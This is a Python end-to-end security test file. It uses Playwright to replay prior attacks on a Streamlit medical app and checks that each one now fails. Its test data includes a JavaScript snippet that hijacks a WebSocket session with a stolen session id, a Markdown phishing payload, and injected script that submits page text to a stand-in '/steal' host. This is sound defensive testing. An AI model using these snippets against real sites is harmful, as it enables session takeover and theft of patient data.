"""Issue 14's browser attacks, replayed with Playwright and Debian's Chromium against `streamlit run app.py`.

Each test does what the attack did and checks that it no longer works: a session taken over with a session id
read from an upload URL (#1), parallel sign-ins from many tabs (#2), an idle session left on screen (#4), exports
fetched from /media without cookies and table downloads outside the audit (#5), Markdown from uploads (#6), error
details in the browser and note text in the server log (#10), scoring that cannot be stopped (#8), DNS rebinding,
framing, and the HTML report's CSP (hardening).
"""
from __future__ import annotations

import contextlib
import http.server
import os
import re
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from tests.e2e.browser import CHROMIUM, CHROMIUM_ARGS, chromium, free_port, streamlit_server
from tools.walk import new_page, wait_idle

PASSWORD = "correct horse battery"
NOTE = "Crushing central chest pain for an hour, spreading to my left arm, sweating, short of breath."
PAYLOAD = ("![a](http://127.0.0.1:9/x.png) [Session expired - click to sign in again](http://127.0.0.1:9/phish) "
           ":red[RED] $$x^2$$ :material/home: www.evil.example a@evil.example")


# ------------------------------------------------------------------------------------------- fixtures
def _home(tmp_path_factory, name):
    from medmodel.users import UsersFile
    home = tmp_path_factory.mktemp(name)
    users = UsersFile(home / "users.json", rounds=4)
    for user, role in (("root", "admin"), ("rita", "reviewer"), ("doc", "clinician")):
        users.add(user, PASSWORD, role)
    return home


def _env(home, **extra):
    env = {k: v for k, v in os.environ.items() if not k.startswith("MEDSEQ_") or k == "MEDSEQ_BUNDLE"}
    return {**env, "MEDSEQ_HOME": str(home), **extra}


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    return _home(tmp_path_factory, "security_home")


@pytest.fixture(scope="module")
def server(shipped_bundle, home, tmp_path_factory):
    log_dir = tmp_path_factory.mktemp("security_server")
    with streamlit_server(log_dir, _env(home)) as url:
        url.log = log_dir / "server.log"
        yield url


@pytest.fixture(scope="module")
def browser():
    with chromium() as b:
        yield b


@pytest.fixture
def page(browser, server):
    pg = new_page(browser, 1400)
    pg.requests = []
    pg.on("request", lambda r: pg.requests.append(r.url))
    pg.goto(server)
    wait_idle(pg)
    yield pg
    pg.context.close()


# ------------------------------------------------------------------------------------------- helpers
def sign_in(page, name, password=PASSWORD, where=None):
    where = where or page
    where.get_by_label("User name").fill(name)
    where.get_by_label("Password", exact=True).fill(password)
    where.get_by_role("button", name="Sign in").click()
    wait_idle(page)


def open_page(page, title):
    page.get_by_test_id("stSidebarNav").get_by_text(title, exact=True).click()
    wait_idle(page)


def assess(page, note=NOTE):
    page.locator("textarea").first.fill(note)
    page.get_by_role("button", name=re.compile(r"^Assess$")).click()
    page.get_by_test_id("stPlotlyChart").first.wait_for(state="visible")
    wait_idle(page)


def upload(page, name, data: bytes):
    page.locator("input[type=file]").set_input_files(files=[{"name": name, "mimeType": "text/csv", "buffer": data}])
    wait_idle(page, 800)


def fetch(url):
    """GET with no cookies at all (curl): (status, body)."""
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as exc:
        return exc.code, b""


def audit_rows(home, **filters):
    from medmodel.audit import AuditLog
    return AuditLog(home / "audit.sqlite").rows(**filters)


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


# ------------------------------------------------------------------------------------------- #1
# A fresh browser that opens the app's WebSocket with the victim's session id, as the attack did.
HIJACK = """(sid) => { const Real = window.WebSocket;
  window.WebSocket = function (url, protocols) {
    const p = Array.isArray(protocols) ? protocols.slice(0, 2) : ["streamlit"];
    while (p.length < 2) p.push("");
    return new Real(url, [...p, sid]);
  };
  window.WebSocket.prototype = Real.prototype;
  Object.assign(window.WebSocket, {CONNECTING: 0, OPEN: 1, CLOSING: 2, CLOSED: 3}); }"""


def test_a_session_id_from_an_upload_url_does_not_open_the_session(browser, server, home):
    """#1: the victim's session id (in /_stcore/upload_file/<SID>/..., so in any proxy log) opened the session,
    signed in as admin with the victim's note, from a browser without the victim's cookies."""
    victim = new_page(browser, 1400)
    seen = []
    victim.on("request", lambda r: seen.append(r.url))
    victim.goto(server)
    wait_idle(victim)
    sign_in(victim, "root")
    assess(victim)
    open_page(victim, "Records")
    upload(victim, "ward.csv", b"note\nfever and cough\n")
    sid = next(m[1] for u in seen if (m := re.search(r"/_stcore/upload_file/([^/]+)/", u)))
    victim.close()                              # the tab goes; the session waits on the server for a reconnect

    attacker = browser.new_context(viewport={"width": 1400, "height": 1000})
    try:
        page = attacker.new_page()
        page.add_init_script(f"({HIJACK})({sid!r})")
        page.goto(server)
        wait_idle(page, 1500)
        text = page.inner_text("body")
        assert "Signed in as" not in text and "chest pain" not in text.lower(), text[:600]
        assert "opened from another browser" in text            # it was the victim's session, and it is over
        assert page.get_by_role("button", name="Sign in").is_visible()
    finally:
        attacker.close()
    ends = [r for r in audit_rows(home, event="sign_out") if "another browser" in r["outputs"]]
    assert ends and ends[-1]["user"] == "root"


# ------------------------------------------------------------------------------------------- #5
def test_exports_are_built_on_press_audited_and_gone_from_media_after_sign_out(page, server, home):
    """#5: `curl /media/<hash>.csv` with no cookies returned the scored rows, even after sign-out; tables offered an
    unaudited "Download as CSV"."""
    sign_in(page, "rita")
    open_page(page, "Records")
    page.get_by_role("button", name="Try a sample file").click()
    wait_idle(page)
    page.get_by_role("button", name="Score all rows").click()
    page.get_by_text("Results").first.wait_for()
    wait_idle(page, 800)
    media = {u for u in page.requests if "/media/" in u}
    media |= set(page.eval_on_selector_all("[href*='/media/'], [src*='/media/']",
                                           "els => els.map(e => e.href || e.src)"))
    for url in media:                                             # nothing served holds the scored rows
        assert b"dx1_id" not in fetch(url)[1], url
    assert not audit_rows(home, event="export")
    page.get_by_test_id("stDataFrame").first.hover()                 # the table's toolbar: no unaudited download
    page.wait_for_timeout(500)
    assert not page.locator("[data-testid=stElementToolbar] button[aria-label*='ownload']").count()

    with page.expect_download() as info:
        page.get_by_role("button", name="Download CSV").click()
    download = info.value
    assert b"dx1_id" in Path(download.path()).read_bytes()
    rows = audit_rows(home, event="export")
    assert [r["user"] for r in rows] == ["rita"] and "scored records" in rows[0]["outputs"]
    media_url = download.url
    page.get_by_role("button", name="Sign out").click()
    wait_idle(page)
    assert fetch(media_url)[0] == 404


# ------------------------------------------------------------------------------------------- #6
def _rendered_markup(page):
    """Markup that text typed by a user must never become: images, links, maths, icons, colours."""
    scope = "[data-testid=stAlertContainer], [data-testid=stCaptionContainer], [data-testid=stMarkdownContainer]"
    return {what: page.locator(f":is({scope}) {sel}").count()
            for what, sel in (("img", "img"), ("link", "a:not([aria-label='Link to heading'])"), ("math", ".katex"), ("icon", "span[role=img]"),
                              ("colour", "span[class*=red], span[style*=color]"))}


def test_markdown_in_uploads_is_shown_as_text(page, server):
    """#6: the file name and cell values were rendered as Markdown: an image fetched, a phishing link shown,
    :red[] and $$...$$ rendered."""
    sign_in(page, "rita")
    open_page(page, "Records")
    before = _rendered_markup(page)
    name = f"{PAYLOAD.replace('/', '_')}.csv"
    upload(page, name, b"note,age\nfever and cough," + PAYLOAD.encode() + b"\n")
    caption = page.get_by_test_id("stCaptionContainer").filter(has_text="rows").first.inner_text()
    assert ":red[RED]" in caption.replace("\u200b", "")                    # the file name, as text
    page.get_by_role("button", name="Score all rows").click()
    page.get_by_text("Results").first.wait_for()
    wait_idle(page, 800)
    alert = page.get_by_test_id("stAlertContainer").filter(has_text="is not a number").first
    alert.wait_for()
    assert "[Session expired - click to sign in again]" in alert.inner_text().replace("\u200b", "")
    upload(page, name.replace(".csv", "-bad.csv"), b"\x89PNG\r\n\x1a\n")    # the error names the file
    page.get_by_test_id("stAlertContainer").filter(has_text="This file cannot be used").first.wait_for()
    assert _rendered_markup(page) == before, _rendered_markup(page)
    assert not [u for u in page.requests if "127.0.0.1:9" in u or "evil.example" in u]


# ------------------------------------------------------------------------------------------- #8
def test_scoring_stops_on_request_and_when_the_tab_closes(browser, server):
    """#8: scoring could not be stopped and went on after the tab closed."""
    notes = b"note\n" + b"".join(b"fever and a dry cough for %d days, no chest pain\n" % (i % 9 + 1)
                                 for i in range(3000))
    for how in ("stop", "close"):
        pg = new_page(browser, 1400)
        pg.goto(server)
        wait_idle(pg)
        sign_in(pg, "rita")
        open_page(pg, "Records")
        upload(pg, "many.csv", notes)
        pg.get_by_role("button", name="Score all rows").click()
        pg.get_by_test_id("stProgress").first.wait_for()
        pg.wait_for_timeout(1500)
        if how == "stop":
            pg.get_by_test_id("stMainBlockContainer").get_by_role("button", name="Stop").click()
            wait_idle(pg)
            assert not pg.get_by_text("Results").count()
        else:
            pg.context.close()
        time.sleep(2)
        used = cpu_seconds(server.pid)
        time.sleep(5)
        assert cpu_seconds(server.pid) - used < 1.5, f"the server kept working after {how}"
        if how == "stop":
            pg.context.close()


# ------------------------------------------------------------------------------------------- hardening
def test_dns_rebinding_is_refused(browser, server):
    """A page on another host name that resolves to this machine (DNS rebinding) gets no session."""
    port = server.rsplit(":", 1)[1]
    rebinding = browser.playwright.chromium.launch(
        executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP rebind.test 127.0.0.1"])
    try:
        pg = rebinding.new_page()
        pg.goto(f"http://rebind.test:{port}/")
        pg.wait_for_timeout(8000)
        assert not pg.get_by_role("button", name="Sign in").count()
        assert not pg.get_by_label("User name").count()
    finally:
        rebinding.close()


@contextlib.contextmanager
def _other_site(html: str):
    """A page served from another site (127.0.0.1, while the app is on localhost)."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            body = html.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass
    port = free_port()
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{port}/"
    finally:
        httpd.shutdown()


def test_the_app_framed_by_another_site_cannot_be_signed_into(browser, server):
    """Clickjacking: inside another site's frame the browser withholds the app's cookie, so no session there can
    be signed into (behind a proxy, also send X-Frame-Options / frame-ancestors: docs/DEPLOY.md)."""
    with _other_site(f'<iframe src="{server}/" width="1300" height="900"></iframe>') as outside:
        pg = new_page(browser, 1400)
        try:
            pg.goto(outside)
            frame = pg.frame_locator("iframe")
            frame.get_by_label("User name").wait_for(timeout=120_000)
            frame.get_by_label("User name").fill("root")
            frame.get_by_label("Password", exact=True).fill(PASSWORD)
            frame.get_by_role("button", name="Sign in").click()
            frame.get_by_text("did not send MedSeq's session cookie").wait_for(timeout=60_000)
            assert not frame.get_by_text("Signed in as").count()
        finally:
            pg.context.close()


def test_the_html_report_cannot_submit_forms_or_rebase_links(browser, shipped_bundle, tmp_path):
    """The report's CSP had no form-action or base-uri (they do not fall back to default-src)."""
    from medmodel import Case, Explainer, Predictor, build_report
    case = Case(NOTE, 50, "M")
    prediction = Predictor(shipped_bundle).predict(case)
    expl = Explainer(shipped_bundle).explain(case, prediction, method="saliency")
    report = tmp_path / "report.html"
    report.write_text(build_report(prediction, shipped_bundle.kb, "en", [expl], shipped_bundle.sha256))
    pg = new_page(browser, 1200)
    sent = []
    pg.on("request", lambda r: sent.append(r.url) if "127.0.0.1:9" in r.url else None)
    try:
        pg.goto(report.as_uri())
        pg.evaluate("""() => { const b = document.createElement('base'); b.href = 'http://127.0.0.1:9/';
            document.head.prepend(b);
            const f = document.createElement('form'); f.action = 'http://127.0.0.1:9/steal'; f.method = 'GET';
            const i = document.createElement('input'); i.name = 'note'; i.value = document.body.innerText.slice(0, 80);
            f.appendChild(i); document.body.appendChild(f); f.submit(); }""")
        pg.wait_for_timeout(2000)
        assert not sent, sent
        assert pg.evaluate("document.baseURI").startswith("file:")
    finally:
        pg.context.close()


# ------------------------------------------------------------------------------------------- #4 and #2: a server
# whose sessions expire after 10 seconds (and whose sign-in limits the parallel attack uses up)
@pytest.fixture(scope="module")
def short_server(shipped_bundle, tmp_path_factory):
    from medmodel.users import UsersFile
    home = _home(tmp_path_factory, "short_home")
    UsersFile(home / "users.json", rounds=12).add("target", PASSWORD, "admin")      # bcrypt at its real cost
    log_dir = tmp_path_factory.mktemp("short_server")
    with streamlit_server(log_dir, _env(home, MEDSEQ_SESSION_TIMEOUT_S="10")) as url:
        url.home = home
        yield url


def test_an_idle_session_is_cleared_from_the_screen_without_a_click(browser, short_server):
    """#4: after idle expiry the note stayed on screen (and its report could still be downloaded)."""
    pg = new_page(browser, 1400)
    try:
        pg.goto(short_server)
        wait_idle(pg)
        sign_in(pg, "doc")
        assess(pg)
        assert "crushing central chest pain" in pg.locator("textarea").first.input_value().lower()
        pg.get_by_role("button", name="Sign in").wait_for(timeout=60_000)   # no click, no key: the page clears itself
        wait_idle(pg)
        assert "chest pain" not in pg.inner_text("body").lower()
        assert "expired" in pg.inner_text("body")
    finally:
        pg.context.close()


def test_parallel_sign_ins_are_counted_before_the_password_check(browser, short_server):
    """#2: 20 tabs submitting wrong passwords at once were all checked (and the right password last succeeded)."""
    tabs = []
    try:
        for _ in range(12):
            pg = new_page(browser, 1000)
            pg.goto(short_server)
            wait_idle(pg)
            pg.get_by_label("User name").fill("target")
            pg.get_by_label("Password", exact=True).fill("wrong password!")
            tabs.append(pg)
        for pg in tabs:
            pg.get_by_role("button", name="Sign in").click(no_wait_after=True)
        for pg in tabs:
            wait_idle(pg)
    finally:
        for pg in tabs:
            pg.context.close()
    from medmodel.audit import AuditLog
    failed = [r for r in AuditLog(short_server.home / "audit.sqlite").rows(event="sign_in_failed") if r["user"] == "target"]
    checked = [r for r in failed if "locked" not in r["outputs"] and "Too many" not in r["outputs"]]
    assert len(failed) == 12 and len(checked) == 5, [r["outputs"] for r in failed]


# ------------------------------------------------------------------------------------------- #10
def test_error_details_stay_out_of_the_browser_and_note_text_out_of_the_log(browser, tmp_path_factory):
    """#10: showErrorDetails = false is the deprecated spelling of "stacktrace": the browser showed the exception
    and a traceback with absolute paths; the server log held note text from exception messages."""
    log_dir = tmp_path_factory.mktemp("crash_server")
    with streamlit_server(log_dir, _env(tmp_path_factory.mktemp("crash_home")), script="tests/e2e/crash_app.py") as url:
        pg = new_page(browser, 1200)
        try:
            pg.goto(url)
            wait_idle(pg, 1500)
            shown = pg.inner_text("body")
        finally:
            pg.context.close()
        time.sleep(1)
        logged = (log_dir / "server.log").read_text()
    for secret in ("John Smith", "chest pain", "ValueError", "Traceback", str(Path.cwd()), "/site-packages/"):
        assert secret not in shown, (secret, shown[:400])
    assert "MessageWithheld" in logged and "John Smith" not in logged and "chest pain" not in logged, logged[-1500:]
